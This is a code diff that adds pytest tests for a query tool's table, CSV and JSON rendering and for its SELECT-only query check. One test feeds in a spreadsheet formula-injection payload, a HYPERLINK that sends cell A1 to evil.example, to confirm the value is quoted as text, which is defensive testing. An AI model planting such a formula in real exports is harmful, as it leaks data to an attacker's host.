@@ -417,6 +417,41 @@ def test_a_cell_that_would_drive_a_terminal_is_spelled_out_in_a_table_and_csv() 
     assert row["error"] == "HTTP 500 Oops: \x1b]52;c;eA==\x07 \u202edone"
 
 
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_quoted_as_text() -> None:
+    # A tenant names its job; the operator opens the export (an archive audit, round two).
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    result = QueryResult(
+        ("job_name", "n"), ((formula, -5), ("+1", 3), ("@SUM(A1)", 0), ("-2+3", None))
+    )
+    lines = render(result, "csv").splitlines()
+    assert lines[1:] == [
+        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-5',
+        "'+1,3",
+        "'@SUM(A1),0",
+        "'-2+3,",
+    ]
+    assert json.loads(render(result, "json"))[0]["job_name"] == formula  # JSON keeps it
+
+
+def test_a_query_is_one_select_as_athena_takes() -> None:
+    # DuckDB ran each statement and printed the last, and answered DDL (Athena refuses both).
+    for sql, message in (
+        ("SELECT 1 AS a; SELECT 2 AS b", "one statement"),
+        ("CREATE TABLE t AS SELECT 1", "a SELECT"),
+        ("DELETE FROM runs", "a SELECT"),
+    ):
+        with pytest.raises(HistoryQueryError, match=message):
+            duckdb_query(sql, {"runs": archive_schema().empty_table()})
+    assert duckdb_query("WITH a AS (SELECT 1 AS x) SELECT x FROM a;", {}).rows == ((1,),)
+
+
+def test_sums_and_counts_are_right_aligned_as_numbers() -> None:
+    result = duckdb_query("SELECT 'a' AS k, count_if(true) AS ok, sum(2) AS total", {})
+    header, _, row, _ = render(result).splitlines()
+    assert header == "k  ok  total"
+    assert row == "a   1      2"
+
+
 class FakeAthena:
     """Athena's API as the engine uses it: states in turn, then pages of results."""
 
